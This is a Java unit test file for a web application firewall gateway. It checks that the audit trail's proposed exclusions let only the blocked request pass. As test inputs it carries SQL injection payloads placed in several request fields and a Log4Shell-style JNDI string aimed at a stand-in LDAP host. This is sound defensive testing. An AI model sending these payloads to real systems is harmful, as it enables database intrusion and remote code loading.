package dev.portcullis.examples.policy;

import static org.assertj.core.api.Assertions.assertThat;

import dev.portcullis.gateway.policy.LoadedPolicy;
import dev.portcullis.gateway.policy.Policy;
import dev.portcullis.gateway.testkit.FakeExchange;
import dev.portcullis.gateway.testkit.FakeHost;
import dev.portcullis.gateway.testkit.FakeRequest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What the trail says to exclude, put into the policy as it stands, lets the same request pass, and no other attack. */
class ProposedExclusionTest {
    private static final String SQL = "' or 'a'='a' --";
    private static final String IN_QUERY = "%27%20or%20%27a%27=%27a%27%20--";
    private static final Pattern PROPOSED = Pattern.compile("\"exclude\":(\\{[^}]*})");

    @TempDir
    Path folder;

    private int trails;

    /** Under one policy: what each request was answered, and the trail of all. */
    private record Answers(List<Integer> statuses, String trail) {
        List<String> proposed() {
            return PROPOSED.matcher(trail)
                    .results()
                    .map(result -> result.group(1))
                    .distinct()
                    .toList();
        }
    }

    private Answers send(String mode, String format, List<String> exclude, FakeRequest... requests) throws Exception {
        Path trail = folder.resolve("audit-" + trails++ + ".jsonl");
        Path file =
                Files.writeString(folder.resolve("p.yaml"), """
                apiVersion: portcullis.dev/v1
                kind: GatewayPolicy
                metadata: {name: p, version: "1"}
                spec:
                  modes: {waf: %s}
                  waf:
                    rules: [builtin]
                    exclude: %s
                  audit: {format: %s, sinks: [{file: {path: %s}}]}
                  routes:
                    - {id: api, match: {methods: [GET, POST], path: /api}, authenticate: none}
                    - {id: other, match: {methods: [GET, POST], path: /other}, authenticate: none}
                """.formatted(mode, exclude, format, trail.getFileName()));
        List<Integer> statuses = new ArrayList<>();
        try (LoadedPolicy policy = Policy.load(file)) {
            for (FakeRequest request : requests) {
                FakeExchange exchange = FakeHost.of(policy.gateway()).send(request);
                statuses.add(exchange.response().status());
            }
        }
        return new Answers(statuses, Files.readString(trail));
    }

    private static FakeRequest typed(String type, String body) {
        return FakeRequest.post("/api", body).header("Content-Type", type);
    }

    private static FakeRequest json(String note) {
        return typed("application/json", "{\"a\": [{\"note\": \"" + note + "\"}]}");
    }

    static Stream<Arguments> refused() {
        String document = "{\"query\": \"{ user(name: \\\"" + SQL + "\\\") { id } }\"}";
        return Stream.of(
                Arguments.of("\"target\":\"ARGS:note\"", FakeRequest.get("/api?note=" + IN_QUERY)),
                Arguments.of(
                        "\"target\":\"ARGS:note\"", typed("application/x-www-form-urlencoded", "note=" + IN_QUERY)),
                Arguments.of("\"json\":\"$.a[*].note\"", json(SQL)),
                Arguments.of("\"target\":\"ARGS:graphql.user.name\"", typed("application/json", document)),
                Arguments.of(
                        "\"target\":\"REQUEST_COOKIES:theme\"",
                        FakeRequest.get("/api").header("Cookie", "theme=" + SQL)),
                Arguments.of(
                        "\"target\":\"REQUEST_HEADERS:Referer\"",
                        FakeRequest.get("/api").header("Referer", SQL)),
                Arguments.of("\"target\":\"XML:/*\"", typed("application/xml", "<a>" + SQL + "</a>")));
    }

    @ParameterizedTest
    @MethodSource("refused")
    void letsWhatWasRefusedPassAndNothingElse(String place, FakeRequest request) throws Exception {
        Answers refused = send("enforce", "portcullis", List.of(), request);
        assertThat(refused.statuses()).containsExactly(403);
        List<String> exclude = refused.proposed();
        assertThat(exclude).isNotEmpty().anyMatch(each -> each.contains(place));

        Answers tuned = send(
                "enforce",
                "portcullis",
                exclude,
                request,
                FakeRequest.get("/api?other=" + IN_QUERY),
                FakeRequest.get("/other?note=" + IN_QUERY),
                FakeRequest.get("/api?note=$%7Bjndi:ldap://x.example/a%7D"));
        assertThat(tuned.statuses()).as(exclude.toString()).containsExactly(200, 403, 403, 403);
    }

    @Test
    void meansAllElementsOfAnArray() throws Exception {
        List<String> exclude =
                send("enforce", "portcullis", List.of(), json(SQL)).proposed();
        FakeRequest second = typed("application/json", "{\"a\": [{\"note\": \"\"}, {\"note\": \"" + SQL + "\"}]}");
        assertThat(send("enforce", "portcullis", exclude, second).statuses()).containsExactly(200);
    }

    @Test
    void saysItInEachFormatAndBeforeAnythingIsRefused() throws Exception {
        for (String format : List.of("portcullis", "ecs")) {
            Answers told = send("shadow", format, List.of(), FakeRequest.get("/api?note=" + IN_QUERY));
            assertThat(told.statuses()).containsExactly(200);
            assertThat(told.trail()).contains("\"decision\":\"shadow\"");
            assertThat(told.proposed()).anyMatch(each -> each.contains("\"target\":\"ARGS:note\""));

            Answers quiet = send("shadow", format, told.proposed(), FakeRequest.get("/api?note=" + IN_QUERY));
            assertThat(quiet.trail()).contains("\"decision\":\"allow\"").doesNotContain("\"decision\":\"shadow\"");
            assertThat(quiet.proposed()).isEmpty();
        }
    }

    @Test
    void meansAllValuesOfACollectionWhereANameMayBeASecret() throws Exception {
        for (String name : List.of("password", "eyJhbGciOiJIUzI1NiJ9", "a%5B0%5D")) {
            FakeRequest request = FakeRequest.get("/api?" + name + '=' + IN_QUERY);
            Answers refused = send("enforce", "portcullis", List.of(), request);
            assertThat(refused.trail()).doesNotContain(":" + name, "a[0]");
            assertThat(refused.proposed()).isNotEmpty().allMatch(each -> each.contains("\"target\":\"ARGS\""));

            Answers tuned = send(
                    "enforce",
                    "portcullis",
                    refused.proposed(),
                    request,
                    FakeRequest.get("/api").header("Referer", SQL));
            assertThat(tuned.statuses()).containsExactly(200, 403);
        }
    }

    @Test
    void neverProposesToExcludeTheRuleThatAddsUp() throws Exception {
        Answers refused = send("enforce", "portcullis", List.of(), FakeRequest.get("/api?note=" + IN_QUERY));
        assertThat(refused.trail()).contains("440984");
        assertThat(refused.proposed()).noneMatch(each -> each.contains("440984"));
    }
}
